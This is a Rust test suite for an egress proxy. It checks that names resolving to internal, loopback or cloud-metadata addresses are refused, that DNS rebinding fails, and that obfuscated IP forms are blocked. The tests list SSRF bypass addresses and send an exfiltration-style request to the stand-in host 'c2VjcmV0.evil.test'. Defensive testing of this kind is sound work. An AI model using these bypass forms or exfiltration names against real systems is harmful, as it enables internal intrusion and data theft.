//! Where names lead: never to this machine or the networks around it unasked, whatever they are resolved to.

use std::sync::atomic::Ordering;

use offshoot_egress::Refusal;

use crate::support::{Proxy, Server, ok};

#[test]
fn names_that_lead_inside_are_refused() {
    let secret = Server::answering(|_| ok("secret"));
    let port = secret.port;
    let proxy = Proxy::new(&format!("*.test:{port}"));
    for address in [
        "127.0.0.1",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "169.254.169.254",
        "fd00:ec2::254",
        "100.64.0.1",
        "224.0.0.1",
        "255.255.255.255",
        "198.18.0.1",
        "64:ff9b::7f00:1",
        "2002:7f00:1::",
        "fe80::1",
        "::",
    ] {
        proxy.names.set("a.test", &[&[address]]);
        let (status, text) = proxy.client().get(&format!("http://a.test:{port}/"));
        assert_eq!(status, 403, "{address}: {text}");
        assert_eq!(proxy.client().tunnel(&format!("a.test:{port}")), 403, "{address}");
        assert_eq!(proxy.client().socks("a.test", port), 2, "{address}");
    }
    assert_eq!(secret.connections.load(Ordering::Relaxed), 0);
    let ends = proxy.ends();
    assert!(ends.iter().all(|end| matches!(end.2, Some(Refusal::Address(_)))), "{ends:?}");
}

#[test]
fn listing_the_address_lets_the_name_lead_there() {
    let server = Server::answering(|_| ok("in"));
    let port = server.port;
    let proxy = Proxy::new(&format!("a.test:{port},127.0.0.0/24:{port}"));
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")), (200, "in".to_owned()));
    assert_eq!(proxy.client().get(&format!("http://127.0.0.1:{port}/")), (200, "in".to_owned()));
    drop(proxy);
    // The report says what to list.
    let proxy = Proxy::new(&format!("a.test:{port}"));
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")).0, 403);
    assert_eq!(proxy.finish().refused[0].flag, Some(format!("--net allow=127.0.0.1:{port}")));
}

#[test]
fn the_name_of_this_machine_is_enough_where_it_is_listed() {
    let server = Server::answering(|_| ok("mine"));
    let port = server.port;
    let proxy = Proxy::new(&format!("localhost:{port}"));
    assert_eq!(proxy.client().get(&format!("http://localhost:{port}/")), (200, "mine".to_owned()));
    assert_eq!(proxy.client().get(&format!("http://127.0.0.1:{port}/")).0, 403);
    assert_eq!(proxy.client().get(&format!("http://other.test:{port}/")).0, 403);
    proxy.names.set("localhost", &[&["10.0.0.1"]]);
    assert_eq!(proxy.client().get(&format!("http://localhost:{port}/")).0, 403);
}

#[test]
fn one_forbidden_address_among_others_refuses_the_name() {
    let server = Server::answering(|_| ok("in"));
    let port = server.port;
    let proxy = Proxy::new(&format!("a.test:{port},{}", server.listed()));
    proxy.names.set("a.test", &[&["127.0.0.1", "10.0.0.1"]]);
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")).0, 403);
    proxy.names.set("a.test", &[&["10.0.0.1", "127.0.0.1"]]);
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")).0, 403);
    proxy.names.set("a.test", &[&[]]);
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")).0, 502);
    assert_eq!(server.connections.load(Ordering::Relaxed), 0);
}

#[test]
fn a_name_is_resolved_once_and_the_checked_address_is_used() {
    // A server of names that answers well first and badly afterwards: whoever asks twice connects to the second answer.
    let good = Server::answering(|_| ok("good"));
    let port = good.port;
    let listener = std::net::TcpListener::bind(("127.0.0.2", port)).unwrap();
    let bad = Server::on(listener, |_| {});
    let proxy = Proxy::new(&format!("a.test:{port},127.0.0.1:{port}"));
    proxy.names.set("a.test", &[&["127.0.0.1"], &["127.0.0.2"]]);
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")), (200, "good".to_owned()));
    assert_eq!(proxy.names.asked.load(Ordering::Relaxed), 1);
    // The next connection asks again, is checked again, and is refused.
    assert_eq!(proxy.client().get(&format!("http://a.test:{port}/")).0, 403);
    assert_eq!(proxy.names.asked.load(Ordering::Relaxed), 2);
    assert_eq!(bad.connections.load(Ordering::Relaxed), 0);
}

/// Also on a machine without IPv6, where connecting fails at once.
#[test]
fn an_address_that_leads_nowhere_is_passed_over() {
    let server = Server::answering(|_| ok("in"));
    let port = server.port;
    let proxy = Proxy::new(&format!("a.test:{port},[::1]:{port},{}", server.listed()));
    proxy.names.set("a.test", &[&["::1", "127.0.0.1"]]);
    let (status, text) = proxy.client().get(&format!("http://a.test:{port}/"));
    assert_eq!((status, text.as_str()), (200, "in"));
    assert_eq!(proxy.finish().connections[0].address, Some(server.at));
}

#[test]
fn numbers_are_no_names_at_any_door() {
    let secret = Server::answering(|_| ok("secret"));
    let port = secret.port;
    let proxy = Proxy::new(&format!("*.test:{port},a.test:{port}"));
    for host in [
        "127.1",
        "0x7f.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "127.0.0.1.",
        "127.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "0",
        "[::]",
    ] {
        let text = proxy
            .client()
            .send(format!("GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"))
            .rest_or_close();
        assert!(text.starts_with("HTTP/1.1 40"), "{host}: {text}");
        assert!([400, 403].contains(&proxy.client().tunnel(&format!("{host}:{port}"))), "{host}");
        let bare = host.trim_matches(['[', ']']);
        assert_ne!(proxy.client().socks(bare, port), 0, "{host}");
    }
    assert_eq!(proxy.names.asked.load(Ordering::Relaxed), 0);
    assert_eq!(secret.connections.load(Ordering::Relaxed), 0);
}

#[test]
fn addresses_by_socks_are_checked_too() {
    let server = Server::mirror();
    let port = server.port;
    let proxy = Proxy::new(&format!("a.test:{port}"));
    let mut client = proxy.client();
    let mut request = vec![5, 1, 0, 5, 1, 0, 1, 127, 0, 0, 1];
    request.extend(port.to_be_bytes());
    client.send(&request);
    assert_eq!(client.bytes(4)[3], 2);
    drop(proxy);
    let proxy = Proxy::new(&server.listed());
    let mut client = proxy.client();
    client.send(&request);
    assert_eq!(client.bytes(12)[3], 0);
    assert_eq!(client.send("\0ping").bytes(5), b"\0ping");
}

#[test]
fn without_the_check_of_addresses_a_name_reaches_this_machine() {
    let secret = Server::answering(|_| ok("secret"));
    let port = secret.port;
    let get = |special_addresses: bool| {
        let proxy = Proxy::with(&format!("a.test:{port}"), |options, _| {
            options.walls.special_addresses = special_addresses;
        });
        proxy.client().get(&format!("http://a.test:{port}/"))
    };
    assert_eq!(get(true).0, 403);
    assert_eq!(get(false), (200, "secret".to_owned()));
}

#[test]
fn nobody_is_asked_about_names_that_are_not_allowed() {
    let proxy = Proxy::new("a.test");
    assert_eq!(proxy.client().get("http://c2VjcmV0.evil.test/").0, 403);
    assert_eq!(proxy.client().tunnel("c2VjcmV0.evil.test:443"), 403);
    assert_eq!(proxy.client().socks("c2VjcmV0.evil.test", 443), 2);
    assert_eq!(proxy.names.asked.load(Ordering::Relaxed), 0);
    // All that a person has to read of it is one line.
    let refused = proxy.finish().refused;
    assert_eq!(refused.len(), 1);
    assert_eq!(
        (refused[0].times, refused[0].flag.as_deref()),
        (3, Some("--net allow=c2vjcmv0.evil.test"))
    );
}
